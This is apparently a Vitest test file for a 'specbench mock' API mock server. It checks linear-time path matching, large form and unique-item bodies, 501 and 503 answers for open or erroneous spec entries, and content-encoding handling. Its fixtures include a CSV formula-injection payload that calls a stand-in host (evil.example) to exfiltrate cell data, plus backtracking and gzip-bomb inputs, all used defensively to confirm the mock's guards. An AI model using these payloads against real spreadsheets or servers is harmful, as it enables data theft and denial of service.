import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeSpec } from '../helpers.ts';
import { call, serve, startMock, type Served } from './harness.ts';

type Obj = Record<string, unknown>;

/**
 * The fourth pass of an independent tester (issue 35, t35f), each case through the real loader and
 * a real server over real HTTP. The cases of work that grew faster than the request run a real
 * `specbench mock` process, so that the test's own hang guard (Vitest's time-out) ends a server
 * that holds its thread: their inputs took minutes before the fix, and the test waits on the answer.
 */
const purpose = 'name: Fourth pass\nbase_url: https://api.example.com/v1\npurpose: Tests the mock.\ndomain: Testing\nusers: [Tests]\n';
const ok = '"200": { content_type: application/json, schema: { type: string, allowed: [ok] }, example: ok }';

describe('the mock, fourth pass of an independent tester (issue 35): work linear in the request', () => {
  it('matches a path against templates with several parameters in one segment in linear time, answering 404 to a long unknown path', async () => {
    const dir = await writeSpec(
      new Map([
        ['purpose/_area.yaml', purpose],
        ['endpoints/_area.yaml', 'inventory: complete\n'],
        ['endpoints/get-file.yaml', `method: GET\npath: "/files/{name}-{version}-{arch}.json"\nparameters:\n  path:\n    name: { type: string, required: true }\n    version: { type: string, required: true }\n    arch: { type: string, required: true }\nresponses:\n  ${ok}\n`],
        ['endpoints/get-many.yaml', `method: GET\npath: "/r/{a}{b}{c}{d}{e}{f}{g}z"\nparameters:\n  path:\n${'abcdefg'.split('').map((n) => `    ${n}: { type: string, required: true }\n`).join('')}responses:\n  ${ok}\n`],
      ]),
    );
    const server = await startMock(['--spec', dir, '--no-cache']);
    try {
      // Seven adjacent parameters against 2,000 characters: n^7 steps backtracking (120 characters held the mock over 30 s).
      const many = await call(server.url, `/r/${'a'.repeat(2000)}`);
      expect(many.status).toBe(404);
      // Cubic before: 8,000 dashes took 14-30 s; 15,000 minutes.
      const dashes = await call(server.url, `/files/${'-'.repeat(15_000)}`);
      expect(dashes.status).toBe(404);
      // What a template matches is unchanged: each parameter the shortest text that lets the rest fit.
      const file = await call(server.url, '/files/lib-1.2-3-x86_64.json');
      expect(file.status).toBe(200);
      const seven = await call(server.url, '/r/abcdefgHz');
      expect(seven.status).toBe(200);
    } finally {
      await server.stop();
    }
  });

  const bodies = new Map([
    ['purpose/_area.yaml', purpose],
    ['endpoints/_area.yaml', 'inventory: complete\n'],
    ['endpoints/post-u.yaml', `method: POST\npath: /u\nparameters: { none: None. }\nrequest:\n  required: true\n  content_type: application/json\n  schema:\n    type: array\n    unique_items: true\n    items: { type: object, fields: { a: { type: integer, required: true } } }\nresponses:\n  ${ok}\n`],
    [
      'endpoints/post-form.yaml',
      `method: POST\npath: /form\nparameters: { none: None. }\nrequest:\n  required: true\n  content_type: [application/x-www-form-urlencoded, multipart/form-data]\n  schema:\n    type: object\n    fields:\n      name: { type: string, required: true }\n      tags: { type: array, items: string, required: false }\nresponses:\n  ${ok}\n`,
    ],
  ]);

  it('checks unique_items over 100,000 distinct objects in one pass (Ajv compared every pair: 20,000 took 11-29 s)', async () => {
    const server = await startMock(['--spec', await writeSpec(bodies), '--no-cache']);
    try {
      const distinct = Array.from({ length: 100_000 }, (_, a) => ({ a }));
      const unique = await call(server.url, '/u', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(distinct) });
      expect(unique.status).toBe(200);
      // A repeat, its keys in another order, is still found.
      const twice = await call(server.url, '/u', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify([{ a: 1, b: [1, { x: 1, y: 2 }] }, { a: 2 }, { b: [1, { y: 2, x: 1 }], a: 1 }]) });
      expect(twice.status).toBe(422);
      expect(JSON.stringify(twice.json)).toContain('expected items that all differ');
    } finally {
      await server.stop();
    }
  });

  it('reads a form field sent 200,000 times, and 100,000 multipart parts, in one pass (40,000 repeats took 14-40 s)', async () => {
    const server = await startMock(['--spec', await writeSpec(bodies), '--no-cache']);
    try {
      const form = await call(server.url, '/form', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `name=x&${Array<string>(200_000).fill('tags=a').join('&')}` });
      expect(form.status).toBe(200);
      const boundary = 'XyZ';
      const part = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
      const multipart = `${part('name', 'x')}${Array<string>(100_000).fill(part('tags', 'a')).join('')}--${boundary}--\r\n`;
      const parts = await call(server.url, '/form', { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: multipart });
      expect(parts.status).toBe(200);
    } finally {
      await server.stop();
    }
  });
});

const answers = new Map([
  ['purpose/_area.yaml', purpose],
  ['endpoints/_area.yaml', 'inventory: complete\n'],
  ['limits/_area.yaml', 'quotas: complete\nsize_bounds: { none: None. }\ntimeouts: { none: None. }\nheaders: [RateLimit-Limit, X-RateLimit-Remaining, RateLimit-Reset, RateLimit, RateLimit-Policy]\n'],
  ['limits/burst.yaml', 'kind: quota\nquota: { open: How many calls a minute? }\nwindow: PT1M\nper: client\n'],
  ['limits/slow.yaml', 'kind: quota\nquota: 2\nwindow: { open: Over what window? }\nper: client\n'],
  ['limits/told.yaml', 'kind: quota\nquota: 5\nwindow: PT1M\nper: client\n'],
  ['endpoints/quota-open.yaml', 'method: GET\npath: /quota-open\nparameters: { none: None. }\nlimits: [burst]\nresponses:\n  "200":\n    example: { ok: true }\n    headers:\n      RateLimit-Limit: { type: integer }\n      X-RateLimit-Remaining: { type: integer }\n'],
  ['endpoints/window-open.yaml', 'method: GET\npath: /window-open\nparameters: { none: None. }\nlimits: [slow]\nresponses:\n  "200":\n    example: { ok: true }\n    headers:\n      RateLimit: { type: string }\n      RateLimit-Policy: { type: string }\n      RateLimit-Reset: { type: integer }\n'],
  ['endpoints/quota-told.yaml', 'method: GET\npath: /quota-told\nparameters: { none: None. }\nlimits: [told]\nresponses:\n  "200":\n    example: { ok: true }\n    headers:\n      RateLimit-Limit: { type: integer }\n'],
  ['errors/_area.yaml', 'inventory: complete\n'],
  ['errors/vague-status.yaml', 'title: Something went wrong\nstatus: { open: Which status does this error come with? }\nbody: { content_type: application/json, schema: { type: object, fields: { msg: { type: string, required: true } } } }\n'],
  ['errors/gone.yaml', 'title: Gone\nstatus: 410\nbody: { content_type: application/json, schema: { type: object, fields: { msg: { type: string, required: true } } } }\n'],
  ['endpoints/default-open.yaml', 'method: GET\npath: /default-open\nparameters: { none: None. }\nresponses:\n  default: { error: vague-status }\n'],
  ['endpoints/default-stated.yaml', 'method: GET\npath: /default-stated\nparameters: { none: None. }\nresponses:\n  default: { error: gone }\n'],
  ['endpoints/oneof-open.yaml', 'method: GET\npath: /oneof-open\nparameters: { none: None. }\nresponses:\n  "200":\n    content_type: application/json\n    schema:\n      type: one_of\n      of:\n        - { type: string }\n        - { type: { open: What else can it be? } }\n'],
  [
    'endpoints/report.yaml',
    'method: GET\npath: /report\nparameters: { none: None. }\nresponses:\n  "200":\n    content_type: text/csv\n    schema:\n      type: array\n      items:\n        type: object\n        fields:\n          name: { type: string, required: true }\n          n: { type: integer, required: true }\n    example: [{ name: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")", n: -1 }, { name: "+1", n: 2 }, { name: "-2", n: 3 }, { name: "@SUM(A1)", n: 4 }, { name: "\\tx", n: 5 }, { name: "\\rx", n: 6 }, { name: "plain", n: 7 }]\n',
  ],
]);

describe('the mock, fourth pass of an independent tester (issue 35): nothing made up', () => {
  let served: Served;
  beforeAll(async () => {
    served = await serve(await writeSpec(answers));
  });
  afterAll(() => served.close());

  it('sends no rate-limit header while the quota or its window is open, and names the gap', async () => {
    for (const [path, gap, names] of [
      ['/quota-open', 'limits/burst/quota', ['ratelimit-limit', 'x-ratelimit-remaining']],
      ['/window-open', 'limits/slow/window', ['ratelimit', 'ratelimit-policy', 'ratelimit-reset']],
    ] as const) {
      const answer = await call(served.origin, `/v1${path}`);
      expect(answer.status).toBe(200);
      for (const name of names) expect(answer.headers.get(name), `${path} ${name}`).toBeNull();
      expect(answer.gaps).toContain(gap);
    }
    // A stated quota still says where the calls stand, in place of the header's shape.
    const told = await call(served.origin, '/v1/quota-told');
    expect(told.headers.get('ratelimit-limit')).toBe('5');
  });

  it('answers a default response naming an error whose status is open with a 501 naming that gap, never 200', async () => {
    const open = await call(served.origin, '/v1/default-open');
    expect(open.status).toBe(501);
    expect(open.headers.get('content-type')).toContain('application/problem+json');
    const body = open.json as Obj;
    expect(body.type).toContain('open-gap');
    expect((body.gaps as Obj[]).map((g) => g.id)).toEqual(['errors/vague-status/status']);
    expect(open.gaps).toContain('errors/vague-status/status');
    // The same with a stated status answers with it; asking for a status is the same 501 (T35v V1:
    // it was answered as a 418, a status nobody stated for the error).
    expect((await call(served.origin, '/v1/default-stated')).status).toBe(410);
    const asked = await call(served.origin, '/v1/default-open', { headers: { prefer: 'code=418' } });
    expect(asked.status).toBe(501);
    expect(((asked.json as Obj).gaps as Obj[]).map((g) => g.id)).toEqual(['errors/vague-status/status']);
  });

  it('answers a one_of with an open variant with a 501 naming the variant gap, not cannot-make', async () => {
    const answer = await call(served.origin, '/v1/oneof-open');
    expect(answer.status).toBe(501);
    const body = answer.json as Obj;
    expect(body.type).toContain('open-gap');
    expect((body.gaps as Obj[]).map((g) => g.id)).toEqual(['endpoints/oneof-open/responses/200/schema/of/1/type']);
  });

  it('guards CSV values a spreadsheet would run as formulas with a leading apostrophe inside the quoted field', async () => {
    const answer = await call(served.origin, '/v1/report', { headers: { accept: 'text/csv' } });
    expect(answer.status).toBe(200);
    expect(answer.text).toBe(
      '"name","n"\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","-1"\r\n"\'+1","2"\r\n"\'-2","3"\r\n"\'@SUM(A1)","4"\r\n"\'\tx","5"\r\n"\'\rx","6"\r\n"plain","7"\r\n',
    );
  });
});

describe('the mock, fourth pass of an independent tester (issue 35): files with errors', () => {
  const erred = new Map([
    ['purpose/_area.yaml', purpose],
    ['endpoints/_area.yaml', 'inventory: complete\n'],
    ['endpoints/typo.yaml', 'method: GET\npath: /typo\nparameters: { none: None. }\nresponses:\n  "200":\n    content_type: application/json\n    schema:\n      type: object\n      fields:\n        id: { type: integer, required: true, minimun: 1 }\n'],
    ['endpoints/bad-value.yaml', `method: GET\npath: /bad-value\nparameters:\n  query:\n    limit: { type: integer, maximum: "ten" }\nresponses:\n  ${ok}\n`],
    ['endpoints/good.yaml', `method: GET\npath: /good\nparameters: { none: None. }\nresponses:\n  ${ok}\n`],
  ]);
  let served: Served;
  beforeAll(async () => {
    served = await serve(await writeSpec(erred));
  });
  afterAll(() => served.close());

  it('answers an endpoint whose file has a check error with 503 spec-unreadable naming file, line, column and code, never a made-up gap or a 200', async () => {
    for (const [path, file, line, column, code] of [
      ['/typo', 'endpoints/typo.yaml', 10, 46, 'unknown-key'],
      ['/bad-value?limit=abc', 'endpoints/bad-value.yaml', 5, 38, 'wrong-type'],
    ] as const) {
      const answer = await call(served.origin, `/v1${path}`);
      expect(answer.status, path).toBe(503);
      const body = answer.json as Obj;
      expect(body.type).toContain('spec-unreadable');
      expect(body.errors).toEqual([expect.objectContaining({ file, line, column, code })]);
      expect(String(body.detail)).toContain(`${file}:${line}:${column} ${code}`);
      expect(answer.headers.get('specbench-unreadable')).toBe('endpoints/bad-value.yaml, endpoints/typo.yaml');
      // No gap the error made: `endpoints/typo/responses` and `endpoints/bad-value/parameters` are stated, with errors.
      expect(answer.gaps, path).toEqual([]);
    }
    // An endpoint whose file has no error answers as stated, and says which files have errors.
    const good = await call(served.origin, '/v1/good');
    expect(good.status).toBe(200);
    expect(good.headers.get('specbench-unreadable')).toBe('endpoints/bad-value.yaml, endpoints/typo.yaml');
  });

  it('says at start that a base address `check` refuses (a server variable) leaves the endpoints at the root, and that a path holding `?` is reached only percent-encoded; a 404 under a base address with errors is a 503', async () => {
    const dir = await writeSpec(
      new Map([
        ['purpose/_area.yaml', 'name: Tenants\nbase_url: https://api.example.com/{tenant}/v2\npurpose: Tests the mock.\ndomain: Testing\nusers: [Tests]\n'],
        ['endpoints/_area.yaml', 'inventory: complete\n'],
        ['endpoints/legacy.yaml', `method: GET\npath: "/legacy?format=json"\nparameters: { none: None. }\nresponses:\n  ${ok}\n`],
      ]),
    );
    const server = await startMock(['--spec', dir, '--no-cache']);
    try {
      expect(server.stdout()).toContain('the base address is not read, purpose/_area.yaml has errors (purpose/_area.yaml:2:11 bad-url): the endpoints are served at the root until it is mended');
      expect(server.stdout()).toContain("GET /legacy?format=json (legacy, endpoints/legacy.yaml) holds a `?`, which starts a request's query: it is reached only with it percent-encoded (/legacy%3Fformat=json)");
      expect((await call(server.origin, '/legacy%3Fformat=json')).status).toBe(200);
      // `check` refuses the server variable: a call under the base address as written may be the spec's.
      const tenant = await call(server.origin, '/acme/v2/legacy');
      expect(tenant.status).toBe(503);
      expect((tenant.json as Obj).type).toContain('spec-unreadable');
      expect(tenant.headers.get('specbench-unreadable')).toBe('purpose/_area.yaml');
    } finally {
      await server.stop();
    }
  });
});

describe('the mock, fourth pass of an independent tester (issue 35): smaller breaks', () => {
  const smaller = new Map([
    ['purpose/_area.yaml', purpose],
    ['endpoints/_area.yaml', 'inventory: complete\n'],
    ['endpoints/search.yaml', `method: GET\npath: /search\nparameters:\n  query:\n    filter:\n      type: object\n      style: deepObject\n      explode: true\n      fields:\n        a: { type: integer }\n        tags: { type: array, items: string }\n        inner: { type: object, fields: { b: { type: integer } } }\nresponses:\n  ${ok}\n`],
    ['endpoints/json.yaml', `method: POST\npath: /json\nparameters: { none: None. }\nrequest: { content_type: application/json, schema: { type: string, allowed: [ab] } }\nresponses:\n  ${ok}\n`],
  ]);
  let served: Served;
  beforeAll(async () => {
    served = await serve(await writeSpec(smaller));
  });
  afterAll(() => served.close());

  it('reads deepObject brackets all the way down: an object sent for an integer field, and a scalar sent twice, are refused', async () => {
    for (const query of ['filter[a][b]=1', 'filter[a]=1&filter[a]=2', 'filter[a]=abc', 'filter[inner][b]=x']) {
      const answer = await call(served.origin, `/v1/search?${query}`);
      expect(answer.status, query).toBe(400);
      expect(JSON.stringify(answer.json), query).toContain('filter');
    }
    for (const query of ['filter[a]=1', 'filter[tags]=x&filter[tags]=y', 'filter[inner][b]=2&filter[a]=3', '']) {
      expect((await call(served.origin, `/v1/search?${query}`)).status, query).toBe(200);
    }
  });

  it('decodes a gzip, deflate or br body, and refuses a coding it does not know with 415 naming it', async () => {
    const { brotliCompressSync, deflateSync, gzipSync } = await import('node:zlib');
    for (const [coding, encode] of [
      ['gzip', gzipSync],
      ['deflate', deflateSync],
      ['br', brotliCompressSync],
    ] as const) {
      const response = await fetch(`${served.origin}/v1/json`, { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': coding }, body: encode(Buffer.from('"ab"')) });
      expect(response.status, coding).toBe(200);
      const wrong = await fetch(`${served.origin}/v1/json`, { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': coding }, body: encode(Buffer.from('"no"')) });
      expect(wrong.status, coding).toBe(422);
    }
    // A plain body labelled br does not decode: refused, never read as it is.
    const labelled = await call(served.origin, '/v1/json', { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': 'br' }, body: '"ab"' });
    expect(labelled.status).toBe(400);
    expect(JSON.stringify(labelled.json)).toContain('Content-Encoding (br)');
    const unknown = await call(served.origin, '/v1/json', { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': 'compress' }, body: '"ab"' });
    expect(unknown.status).toBe(415);
    expect(JSON.stringify(unknown.json)).toContain('got compress');
    // A small body that inflates past what the mock reads is refused, not inflated.
    const bomb = await fetch(`${served.origin}/v1/json`, { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: gzipSync(Buffer.alloc(17 * 1024 * 1024, 32)) });
    expect(bomb.status).toBe(413);
  });
});
